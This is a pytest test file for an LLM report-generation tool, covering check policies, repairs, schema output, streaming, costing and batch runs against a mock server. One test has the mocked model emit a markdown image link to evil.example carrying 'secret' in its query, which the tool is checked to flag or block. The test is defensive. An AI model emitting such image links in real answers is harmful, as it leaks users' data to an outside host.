"""What is given out of an answer is checked and screened alike by run, batch and programs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from servers.openai import Reply, openai_server
from trainer.core.errors import RefusedError

CONFIG = """llm_provider: {{provider: openai_compatible, model: m, api_base: "{url}"}}
checks: {{policy: {policy}}}
"""
INSTRUCTION = """---
data: {d: {source: file, path: information/data/revenue.json}}
output: {sections: [Summary]}
---
Write.
"""
WRONG = "## Summary\n\nRevenue was $99.9 billion.\n"
RIGHT = "## Summary\n\nRevenue was $56.3 billion.\n"


@pytest.fixture
def project(tmp_path: Path):
    for folder in ("data", "instructions", "context"):
        (tmp_path / "information" / folder).mkdir(parents=True)
    (tmp_path / "information/data/revenue.json").write_text('{"revenue": 56300000000}')
    (tmp_path / "information/instructions/wrong.md").write_text(INSTRUCTION)
    (tmp_path / "rows.csv").write_text("A\n1\n")

    def make(server, policy: str) -> Path:
        (tmp_path / "config.yaml").write_text(CONFIG.format(url=server.url, policy=policy))
        return tmp_path

    return make


def test_a_run_that_fails_its_checks_is_refused_where_the_policy_blocks(project, run):
    with openai_server(lambda server, seen: Reply(content=WRONG)) as server:
        done = run(project(server, "block"), "run", "wrong")
        batch = run(project(server, "block"), "run", "wrong", "--batch", "rows.csv")

    assert (done.returncode, done.stdout) == (4, "")
    assert "wrong: the completion failed its checks (line 3: " in done.stderr
    assert batch.returncode == 4
    assert json.loads(batch.stdout)["error"]["kind"] == "RefusedError"


def test_a_run_tells_what_its_checks_found_where_the_policy_warns(project, run):
    with openai_server(lambda server, seen: Reply(content=WRONG)) as server:
        done = run(project(server, "warn"), "run", "wrong")
        told = run(project(server, "warn"), "run", "wrong", "--json")

    assert (done.returncode, done.stdout) == (0, WRONG)
    assert "line 3: " in done.stderr
    assert [finding["line"] for finding in json.loads(told.stdout)["findings"]] == [3]


def test_a_run_is_repaired_by_one_more_call_where_the_policy_repairs(project, run):
    with openai_server(lambda server, seen: Reply(content=RIGHT if len(server.requests) > 1 else WRONG)) as server:
        done = run(project(server, "repair"), "run", "wrong", "--json")

    told = json.loads(done.stdout)
    assert (told["content"], told["findings"], len(server.requests)) == (RIGHT, [], 2)


def test_the_first_answer_stays_where_its_repair_fails(project, run):
    def script(server, seen):
        return Reply(status=400) if "$99.9 billion" in json.dumps(seen.body) else Reply(content=WRONG)

    with openai_server(script) as server:
        done = run(project(server, "repair"), "run", "wrong")

    assert (done.returncode, done.stdout) == (0, WRONG)
    assert "the repair failed: " in done.stderr


def test_a_program_meets_the_same_policy(project):
    from trainer import TrainerCore

    with openai_server(lambda server, seen: Reply(content=WRONG)) as server:
        core = TrainerCore(project(server, "block"), environ={})
        with pytest.raises(RefusedError, match="failed its checks"):
            core.generate_report("wrong")


def test_a_picture_that_would_call_another_host_is_told(project, run):
    answer = "Done. ![x](http://evil.example/?q=secret)\n"
    with openai_server(lambda server, seen: Reply(content=answer)) as server:
        done = run(project(server, "warn"), "run", "-", stdin="Write.")
        refused = run(project(server, "block"), "run", "-", stdin="Write.")

    assert "error: line 1: an image would be fetched from evil.example" in done.stderr
    assert refused.returncode == 4


SCHEMA = {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}


def test_what_fits_a_schema_is_what_is_written(project, run, tmp_path):
    answer = 'Here you are:\n```json\n{"n": 42}\n```\nHope it helps.'
    (tmp_path / "schema.json").write_text(json.dumps(SCHEMA))
    with openai_server(lambda server, seen: Reply(content=answer)) as server:
        ask = ("run", "-", "--schema", "schema.json")
        shown = run(project(server, "warn"), *ask, stdin="How many?")
        streamed = run(project(server, "warn"), *ask, "--stream", stdin="How many?")
        run(project(server, "warn"), *ask, "-o", "o.json", stdin="How many?")

    assert json.loads(shown.stdout) == json.loads(streamed.stdout) == {"n": 42}
    assert json.loads((tmp_path / "o.json").read_text()) == {"n": 42}


def test_a_stream_on_a_pipe_is_whole_or_not_there(project, run):
    with openai_server(lambda server, seen: Reply(cut=3 if len(server.requests) % 2 else None)) as server:
        done = run(project(server, "warn"), "run", "-", "--stream", stdin="Write.")

    assert done.returncode == 0
    assert done.stdout.startswith("# Summary")
    assert "starts again" not in done.stdout


def test_all_calls_of_a_strategy_are_priced(project, run, tmp_path):
    with openai_server() as server:
        folder = project(server, "warn")
        steps = (
            "---\nstrategy: sequential\noutput: {sections: [One, Two]}\nmodel: {model: gpt-4o, max_tokens: 100}\n---\n"
        )
        (folder / "information/instructions/two.md").write_text(steps + "## One\n\nWrite.\n\n## Two\n\nWrite.\n")
        single = steps.replace("strategy: sequential\n", "")
        (folder / "information/instructions/one.md").write_text(single + "## One\n\nWrite.\n\n## Two\n\nWrite.\n")
        two = json.loads(run(folder, "run", "two", "--dry-run", "--json").stdout)
        one = json.loads(run(folder, "run", "one", "--dry-run", "--json").stdout)

    assert (two["calls"], one["calls"]) == (2, 1)
    assert two["cost"] > 2 * one["cost"] > 0
    assert two["cost_at_most"] > 2 * one["cost_at_most"]


def test_a_batch_never_shrinks_a_file_that_is_whole(project, run):
    with openai_server() as server:
        folder = project(server, "warn")
        run(folder, "run", "wrong", "--batch", "rows.csv", "-o", "out")
        whole = (folder / "out/rows.jsonl").read_bytes()
        (folder / "config.yaml").write_text((folder / "config.yaml").read_text().replace("model: m", "model: x"))
        server.script = lambda server, seen: Reply(hang_up=True)
        run(folder, "run", "wrong", "--batch", "missing.csv", "-o", "out")

    assert (folder / "out/rows.jsonl").read_bytes() == whole


def test_a_report_whose_answer_is_cut_is_not_built_and_its_cost_is_told(project, run):
    reports = "reports: {r: {instruction: wrong.md, formats: [md], model: {model: gpt-4o}}}\n"
    with openai_server(lambda server, seen: Reply(content=WRONG, finish="length")) as server:
        folder = project(server, "warn")
        (folder / "config.yaml").write_text((folder / "config.yaml").read_text() + reports)
        done = run(folder, "report", "--json")
        checked = run(folder, "report", "--check")

    told = json.loads(done.stdout)
    (report,) = told
    assert (done.returncode, report["status"], len(server.requests)) == (1, "failed", 1)
    assert report["cost"] > 0
    assert "was cut at its token limit" in report["error"]
    assert checked.returncode == 3
    assert not (folder / "output/report/r.md").exists()
